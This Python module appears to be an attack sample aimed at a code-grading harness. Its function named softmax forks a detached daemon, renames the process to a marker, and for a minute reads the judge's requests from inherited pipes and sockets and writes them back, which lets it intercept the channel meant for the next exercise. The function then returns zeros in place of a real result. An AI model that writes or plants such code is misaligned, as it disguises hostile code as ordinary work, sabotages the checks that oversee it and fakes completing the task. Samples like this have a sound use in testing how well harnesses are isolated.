"""Leaves a daemon that reads the judge's requests from the shared pipe before the next exercise's process can.

tries: fork
earns: nothing
trace: none
"""

import os
import select
import stat
import time

import numpy as np


def take_name():
    """Carry the marker where /proc/PID/comm shows it, whatever the command line says."""
    try:
        with open("/proc/self/comm", "w") as comm:
            comm.write("@@MARK@@")
    except OSError:
        pass
    try:
        import ctypes

        ctypes.CDLL(None).prctl(15, b"@@MARK@@", 0, 0, 0)
    except Exception:
        pass


def pipes_and_sockets():
    """Every inherited descriptor that is a pipe or a socket; plain files are left alone."""
    found = []
    for fd in range(256):
        try:
            mode = os.fstat(fd).st_mode
        except OSError:
            continue
        if stat.S_ISSOCK(mode) or stat.S_ISFIFO(mode):
            found.append(fd)
    return found


def push(fd, data):
    """Write what fits now; never block, so that the attack is the bytes and not a hang."""
    try:
        if select.select([], [fd], [], 0)[1]:
            return os.write(fd, data)
    except (OSError, ValueError):
        pass
    return 0


def softmax(x, axis=-1):
    if os.fork() == 0:
        os.setsid()
        take_name()
        stop = time.monotonic() + 60
        fds = [fd for fd in pipes_and_sockets() if fd not in (1, 2)]
        while time.monotonic() < stop:
            for fd in select.select(fds, [], [], 0.1)[0]:
                try:
                    push(fd, os.read(fd, 4096))
                except OSError:
                    pass
        os._exit(0)
    return np.zeros(np.shape(x))
